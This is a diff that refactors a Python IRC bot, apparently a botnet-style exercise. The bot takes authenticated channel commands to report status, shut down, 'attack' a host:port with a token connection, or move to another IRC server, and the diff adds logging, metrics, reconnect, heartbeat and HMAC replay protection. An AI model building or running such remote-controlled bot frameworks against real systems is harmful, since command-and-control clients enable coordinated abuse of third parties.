@@ -1,11 +1,22 @@
 #!/usr/bin/env python3
+import argparse
+import logging
 import socket
 import random
-import hashlib
 import select
 import sys
 import time
-import select
+from ircproto import IrcParser, register
+from nonce_store import NonceStore, DEFAULT_WINDOW
+from botauth import AUTH_V1, AUTH_VERSIONS, authenticator_for
+from botcore import (ACCEPTED, COMMAND_SCHEMAS, REPLAYED, CommandGuard, Dispatcher, InvalidArguments,
+                     UnknownCommand, is_report, parse_command)
+from heartbeat import DEAD, PING, HeartbeatPolicy, add_heartbeat_arguments, heartbeat_from_args
+from reconnect import ReconnectPolicy, Resolver, add_reconnect_arguments, policy_from_args, resolver_from_args
+from metrics import registry, add_metrics_arguments, start_metrics
+from botlog import add_logging_arguments, setup_logging
+from sendqueue import SendQueue, add_flood_arguments, queue_from_args
+import wirelog
 
 
 server = None
@@ -15,7 +26,30 @@ secret = None
 hostname = None
 port = None
 command_count = 0
-seen_nonces = set()  
+seen_nonces = None
+auth_version = AUTH_V1
+guard = None
+irc_parser = None
+outbound = SendQueue()
+reconnect_policy = ReconnectPolicy()
+backoff = reconnect_policy.backoff()
+resolver = Resolver()
+heartbeat_policy = HeartbeatPolicy()
+heartbeat = heartbeat_policy.monitor()
+
+# Log categories; --log-sample can thin out each one separately
+log = logging.getLogger("ircbot")
+command_log = logging.getLogger("ircbot.command")
+auth_log = logging.getLogger("ircbot.auth")
+connection_log = logging.getLogger("ircbot.connection")
+
+# Metrics recorded on every read and write, looked up once; command metrics live in botcore
+bytes_received = registry.counter("bot_bytes_received_total")
+bytes_sent = registry.counter("bot_bytes_sent_total")
+reply_send_seconds = registry.histogram("bot_reply_send_seconds")
+
+# Seconds a move or shutdown waits for queued replies to go out before closing
+DRAIN_TIMEOUT = 5
 
 #Generates a random nickname for the bot using a predefined prefix and a random number.
 def generate_random_nickname():
@@ -23,135 +57,203 @@ def generate_random_nickname():
     return "Bot" + str(random.randint(1, 10000))
 
 def connect_to_irc_server(hostname, port):
-    global server, channel, nick
+    global server, nick, irc_parser
     nick = generate_random_nickname()
     
     while True:
         try:
+            backoff.attempt()
+            address = resolver.resolve(hostname, port)
+            if address is None:
+                raise ConnectionError(f"cannot resolve {hostname}")
             temp_server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            heartbeat_policy.configure(temp_server)
             temp_server.settimeout(10)
-            print(f"Attempting to connect to {hostname}:{port}")
-            temp_server.connect((hostname, int(port)))
-            print("Connected successfully to IRC server.")
-
-            # Perform IRC handshake
-            temp_server.send(f"NICK {nick}\r\n".encode('utf-8'))
-            temp_server.send(f"USER {nick} 0 * :{nick}\r\n".encode('utf-8'))
-
-            # Wait for welcome message and respond to PING if necessary
-            while True:
-                response = temp_server.recv(2048).decode('utf-8')
-                if "PING" in response:
-                    temp_server.send(response.replace("PING", "PONG").encode('utf-8'))
-                if "001" in response:  # Welcome message received
-                    break
-            
-            # Successfully connected and handshaked; update global server
+            connection_log.info("Attempting to connect to %s:%s", hostname, port)
+            temp_server.connect(address)
+            connection_log.info("Connected successfully to IRC server.")
+
+            irc_parser = IrcParser()
+            register_with_server(temp_server)
+
+            # Successfully connected and handshaked; update global server.
+            # From here on writes go through the outbound queue.
+            temp_server.setblocking(False)
+            outbound.clear()
             server = temp_server
-            server.send(f"JOIN {channel}\r\n".encode('utf-8'))
-            print(f"Joined channel {channel}")
+            heartbeat.received(time.monotonic())
+            connection_log.info("Joined channel %s", channel)
+            down_for = backoff.connected()
+            if down_for is not None:
+                connection_log.info("Reconnected after %.2fs.", down_for)
             break
         
         except Exception as e:
-            print(f"Failed to connect to IRC server: {e}. Retrying in 5 seconds...")
-            time.sleep(5)
+            delay = backoff.next_delay()
+            connection_log.warning("Failed to connect to IRC server: %s. Retrying in %.2f seconds...", e, delay)
+            time.sleep(delay)
+
+#Performs the IRC handshake and joins the channel.
+def register_with_server(temp_server):
+    global nick
+    nick = register(temp_server, nick, channel, irc_parser, send_raw, record_received, generate_random_nickname)
 
 #Authenticates a command by verifying its MAC against an expected value.
-def authenticate_command(nonce, command_secret, mac):
-    
-    # Check if nonce is seen before
-    if nonce in seen_nonces:  
-        duplicated_nonce = f"duplicated nonce, try again"
-        server.send(f"PRIVMSG {channel} :{duplicated_nonce}\r\n".encode('utf-8'))
-        print(duplicated_nonce)
-        
-        return False
-    expected_mac = hashlib.sha256(f"{nonce}{command_secret}".encode()).hexdigest()[:8]
-    
-    # Add nonce to seen list if not seen before 
-    if mac == expected_mac:
-        seen_nonces.add(nonce)  
-        return True
-    return False
+def authenticate_command(command):
+    outcome = guard.check(command)
+    # Only authentic nonces reach the store; reject ones seen before or outside the window
+    if outcome == REPLAYED:
+        duplicated_nonce = "duplicated or expired nonce, try again"
+        send_to_channel(duplicated_nonce)
+        auth_log.info(duplicated_nonce)
+    return outcome == ACCEPTED
 
 def listen_for_commands():
-    global server, channel, secret, command_count
     try:
         while True:
             try:
-                ready_to_read, _, _ = select.select([server], [], [], 60)
+                dispatch_messages()
+                check_heartbeat()
+                flush_outbound()
+                # Wake up when the socket takes more of the queue, flood control admits
+                # the next line or the heartbeat is due
+                writers = [server] if outbound.wants_write() else []
+                waits = (outbound.timeout(), heartbeat.wait(time.monotonic()))
+                wait = min((wait for wait in waits if wait is not None), default=60)
+                ready_to_read, _, _ = select.select([server], writers, [], wait)
                 if ready_to_read:
-                    response = server.recv(2048).decode('utf-8').strip()
-                    if response.startswith("PING"):
-                        server.send(response.replace("PING", "PONG").encode('utf-8'))
-                    elif "PRIVMSG" in response:
-                        parts = response.split(':', 2)
-                        if len(parts) > 2:
-                            message = parts[2].strip()
-                            process_command(message)
+                    data = server.recv(2048)
+                    if not data:
+                        raise ConnectionError("IRC server closed the connection")
+                    record_received(server, data)
+                    heartbeat.received(time.monotonic())
+                    irc_parser.feed(data)
             except Exception as e:
-                print(f"Connection error: {e}. Attempting to reconnect in 5 seconds...")
-                time.sleep(5)
+                delay = backoff.next_delay(failed=False)
+                connection_log.warning("Connection error: %s. Attempting to reconnect in %.2f seconds...", e, delay)
+                time.sleep(delay)
                 connect_to_irc_server(hostname, port)
     except KeyboardInterrupt:
-        print("KeyboardInterrupt received: exiting program.")
+        log.info("KeyboardInterrupt received: exiting program.")
         shutdown_bot()
+
+#PINGs a server that has gone quiet. Raises ConnectionError once a PING goes
+#unanswered, which takes the listen loop down its reconnect path.
+def check_heartbeat():
+    now = time.monotonic()
+    state = heartbeat.due(now)
+    if state == DEAD:
+        raise ConnectionError(f"heartbeat unanswered after {heartbeat.missed(now):.1f}s of silence")
+    if state == PING:
+        heartbeat.pinged(now)
+        # Ahead of queued replies, so flood control does not hold it past the timeout
+        outbound.put(f"PING :{nick}\r\n".encode(), urgent=True)
+
+#Handles every message parsed so far. A move replaces irc_parser, so the
+#queue is looked up again on each pass.
+def dispatch_messages():
+    while irc_parser.messages:
+        message = irc_parser.messages.popleft()
+        if message.command == "PING":
+            send_line(f"PONG :{message.trailing or ' '.join(message.params)}")
+        elif message.command == "PRIVMSG" and message.trailing:
+            process_command(message.trailing.strip())
       
 
 def process_command(message):
-    global command_count, nick
-
-    # Splitting the command and parameters, assuming space-separated format
-    cmd_parts = message.split()
-    if len(cmd_parts) >= 3:
-        nonce, mac, command = cmd_parts[:3]
-        args = cmd_parts[3:]
-        
-        if authenticate_command(nonce, secret, mac):
-            command_count += 1  
-            print(f"Received command: {command}")              
-            if command == "status":
-                send_status()
-            
-            elif command == "shutdown":
-                shutdown_bot()
-
-            elif command == "attack" and len(args) == 1:
-                attack_target = args[0].split(":")
-                if len(attack_target) == 2:
-                    attack_hostname, attack_port_str = attack_target
-                    try:
-                        attack_port = int(attack_port_str)
-                        perform_attack(attack_hostname, attack_port, nick, nonce)
-                    except ValueError:
-                        print("Invalid port number for attack command.")
-
-            elif command == "move" and len(args) == 1:
-                new_server_info = args[0].split(":")
-                if len(new_server_info) == 2:
-                    move_to_new_server(new_server_info[0], int(new_server_info[1]))
-                else:
-                    print("Invalid arguments for the move command.")
-    else:
-        print("Invalid command format received.")  
+    global command_count
+
+    # Reports and errors from other bots in the channel
+    if is_report(message):
+        return
+    command = parse_command(message)
+    if command is None:
+        auth_log.info("Invalid command format received.")
+        return
+
+    if authenticate_command(command):
+        if command.name in COMMAND_SCHEMAS:
+            command_count += 1
+        command_log.debug("Received command: %s", command.name)
+        try:
+            dispatcher.dispatch(command)
+        except (UnknownCommand, InvalidArguments) as e:
+            # Answered either way, so the controller need not wait out its timeout
+            command_log.info("%s", e)
+            send_to_channel(str(e))
+
+#Sends raw IRC text during registration, before `server` is set.
+def send_raw(sock, text):
+    data = text.encode('utf-8')
+    sock.sendall(data)
+    record_sent(sock, data)
+
+#Byte counts for the metrics, and the wire log when one is being recorded.
+def record_sent(sock, data):
+    bytes_sent.inc(len(data))
+    if wirelog.recorder:
+        wirelog.recorder.record(wirelog.OUT, data, sock.fileno())
+
+def record_received(sock, data):
+    bytes_received.inc(len(data))
+    if wirelog.recorder:
+        wirelog.recorder.record(wirelog.IN, data, sock.fileno())
+
+#Queues one IRC line; listen_for_commands writes it out under flood control.
+def send_line(line):
+    outbound.put(f"{line}\r\n".encode('utf-8'))
+
+#Writes what the non-blocking socket takes right now, recording the bytes and the time it took.
+def send_available(view):
+    try:
+        sent = server.send(view)
+    except BlockingIOError:
+        return 0
+    record_sent(server, view[:sent])
+    return sent
+
+def flush_outbound():
+    started = time.perf_counter()
+    if outbound.flush(send_available):
+        reply_send_seconds.since(started)
+
+#Waits up to `timeout` seconds for everything queued to be written, before the connection is closed.
+def drain_outbound(timeout=DRAIN_TIMEOUT):
+    deadline = time.monotonic() + timeout
+    while True:
+        flush_outbound()
+        remaining = deadline - time.monotonic()
+        if not (outbound or outbound.wants_write()) or remaining <= 0:
+            return
+        wait = outbound.timeout()
+        writers = [server] if outbound.wants_write() else []
+        select.select([], writers, [], remaining if wait is None else min(wait, remaining))
+
+def send_to_channel(message):
+    send_line(f"PRIVMSG {channel} :{message}")
+
+#Report prefix tagged with the nonce of the command it answers ("-status@<nonce>"),
+#so the controller can match replies to commands. Untagged when there is no command.
+def report_prefix(kind, nonce=None):
+    return f"-{kind}@{nonce}" if nonce else f"-{kind}"
 
 #Sends the bot's status back to the channel.
-def send_status():
+def send_status(nonce=None):
     
-    status_message = f"-status {nick} {command_count}"
-    debug_message = f"Sending status to {channel}: {status_message}"
-    print(debug_message)  # Debugging output
+    status_message = f"{report_prefix('status', nonce)} {nick} {command_count}"
+    command_log.debug("Sending status to %s: %s", channel, status_message)
     try:
-        server.send(f"PRIVMSG {channel} :{status_message}\r\n".encode('utf-8'))
-        print("Status message sent successfully.")
+        send_to_channel(status_message)
+        command_log.debug("Status message sent successfully.")
     except Exception as e:
-        print(f"Failed to send status message: {e}")
+        connection_log.warning("Failed to send status message: %s", e)
 
 #Shuts down the bot gracefully.
-def shutdown_bot():
+def shutdown_bot(nonce=None):
     
-    shutdown_message = f"-shutdown {nick}"
-    server.send(f"PRIVMSG {channel} :{shutdown_message}\r\n".encode('utf-8'))
+    shutdown_message = f"{report_prefix('shutdown', nonce)} {nick}"
+    send_to_channel(shutdown_message)
+    drain_outbound()
     server.close()
     sys.exit(0)
 
@@ -159,11 +261,15 @@ def shutdown_bot():
 
 def perform_attack(hostname, port, nick, nonce):
     report_message = ""
+    address = resolver.resolve(hostname, port)
+    if address is None:
+        send_to_channel(f"{report_prefix('attack', nonce)} {nick} FAIL no such hostname")
+        return
     attack_sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     attack_sock.setblocking(0)  
 
     try:
-        attack_sock.connect((hostname, port))
+        attack_sock.connect(address)
     except BlockingIOError:
         
         pass
@@ -173,42 +279,43 @@ def perform_attack(hostname, port, nick, nonce):
         if writable:
             attack_msg = f"{nick} {nonce}\n".encode()
             attack_sock.sendall(attack_msg)
-            report_message = f"-attack {nick} OK"
+            report_message = f"{report_prefix('attack', nonce)} {nick} OK"
         elif in_error:
-            report_message = f"-attack {nick} FAIL Unable to Connect or Error"
+            report_message = f"{report_prefix('attack', nonce)} {nick} FAIL Unable to Connect or Error"
         else:
-            report_message = f"-attack {nick} FAIL Timeout"
+            report_message = f"{report_prefix('attack', nonce)} {nick} FAIL Timeout"
     except Exception as e:
-        report_message = f"-attack {nick} FAIL {str(e)}"
+        report_message = f"{report_prefix('attack', nonce)} {nick} FAIL {str(e)}"
     finally:
         attack_sock.close()
 
-    #print(f"Reporting attack result: {report_message}")  
-    
+    command_log.debug("Reporting attack result: %s", report_message)
+
     try:
-        server.send(f"PRIVMSG {channel} :{report_message}\r\n".encode('utf-8'))
-        print("Attack result message sent successfully.")  
+        send_to_channel(report_message)
+        command_log.debug("Attack result message sent successfully.")  
     except Exception as e:
-        print(f"Failed to send attack result message: {e}")
+        connection_log.warning("Failed to send attack result message: %s", e)
 
-def move_to_new_server(new_host, new_port):
-    global server, hostname, port, channel, nick
+def move_to_new_server(new_host, new_port, nonce=None):
+    global server, hostname, port
 
     
     if server:
         try:
-            move_message = f"-move {nick}"
-            server.send(f"PRIVMSG {channel} :{move_message}\r\n".encode('utf-8'))
-            print(f"Move notification sent for {nick}")
+            move_message = f"{report_prefix('move', nonce)} {nick}"
+            send_to_channel(move_message)
+            drain_outbound()
+            command_log.debug("Move notification sent for %s", nick)
         except Exception as e:
-            print(f"Error sending move notification: {e}")
+            connection_log.warning("Error sending move notification: %s", e)
         finally:
             try:
                 server.shutdown(socket.SHUT_RDWR)
             except Exception as shutdown_error:
-                print(f"Error shutting down socket: {shutdown_error}")
+                connection_log.warning("Error shutting down socket: %s", shutdown_error)
             server.close()
-            print(f"Disconnected from the current server for moving to {new_host}:{new_port}")
+            connection_log.info("Disconnected from the current server for moving to %s:%s", new_host, new_port)
 
     #reconection flag so that reconnection can happen
     server = None
@@ -217,21 +324,61 @@ def move_to_new_server(new_host, new_port):
     hostname, port = new_host, new_port
 
     
-    print(f"Attempting to connect to the new server: {hostname}:{port}")
+    connection_log.info("Attempting to connect to the new server: %s:%s", hostname, port)
     connect_to_irc_server(hostname, port)
 
 
-def main():
-    global channel, secret, hostname, port
+# Handlers for the commands in botcore.COMMAND_SCHEMAS. They look the
+# functions up when called, so a replay can swap out the ones with side effects.
+dispatcher = Dispatcher({
+    "status": lambda command: send_status(command.nonce),
+    "shutdown": lambda command: shutdown_bot(command.nonce),
+    "attack": lambda command, target: perform_attack(target[0], target[1], nick, command.nonce),
+    "move": lambda command, target: move_to_new_server(target[0], target[1], command.nonce),
+})
 
-    if len(sys.argv) != 4:
-        # Improved usage instruction by letting the user know to use "" for channel
-        print("Usage: ircbot.py '<server:port>' '<channel>' '<secret>'")
-        print("Note: Please ensure to encapsulate arguments with spaces or special characters (like # for channels) in quotes.")
-        sys.exit(1)
 
-    server_port, channel, secret = sys.argv[1:]
-    hostname, port = server_port.split(":")
+def main():
+    global channel, secret, hostname, port, seen_nonces, auth_version, guard, reconnect_policy, backoff, resolver, outbound
+    global heartbeat_policy, heartbeat
+
+    parser = argparse.ArgumentParser(
+        description='IRC bot that executes authenticated commands sent to a channel.',
+        epilog='Note: Please ensure to encapsulate arguments with spaces or special characters (like # for channels) in quotes.')
+    parser.add_argument('server', help='Hostname and port of the IRC server (hostname:port)')
+    parser.add_argument('channel', help='Channel to join, e.g. "#myChannel"')
+    parser.add_argument('secret', help='Secret phrase for command authentication')
+    parser.add_argument('--nonce-window', type=int, default=DEFAULT_WINDOW,
+                        help='Seconds a nonce stays valid after it was issued (default: %(default)s)')
+    parser.add_argument('--nonce-file', help='File that keeps seen nonces across restarts')
+    parser.add_argument('--auth', choices=AUTH_VERSIONS, default=AUTH_V1,
+                        help='Command authentication scheme: v1 (sha256 prefix) or v2 (HMAC-SHA256) (default: %(default)s)')
+    add_reconnect_arguments(parser)
+    add_heartbeat_arguments(parser)
+    add_flood_arguments(parser)
+    add_metrics_arguments(parser)
+    add_logging_arguments(parser)
+    wirelog.add_recording_arguments(parser)
+    args = parser.parse_args()
+    setup_logging(args.log_level, args.log_sample)
+    if args.record:
+        wirelog.start_recording(args.record)
+
+    channel, secret = args.channel, args.secret
+    hostname, port = args.server.split(":")
+    seen_nonces = NonceStore(window=args.nonce_window, path=args.nonce_file)
+    auth_version = args.auth
+    guard = CommandGuard(authenticator_for(secret), auth_version, seen_nonces)
+    reconnect_policy = policy_from_args(args)
+    backoff = reconnect_policy.backoff()
+    resolver = resolver_from_args(args)
+    outbound = queue_from_args(args)
+    heartbeat_policy = heartbeat_from_args(args)
+    heartbeat = heartbeat_policy.monitor()
+    registry.collect("bot_reconnect", reconnect_policy.stats)
+    registry.collect("bot_resolver", resolver.stats)
+    registry.collect("bot_send_queue", outbound.stats)
+    start_metrics(args.metrics)
 
     if not channel.startswith("#"):
         channel = "#" + channel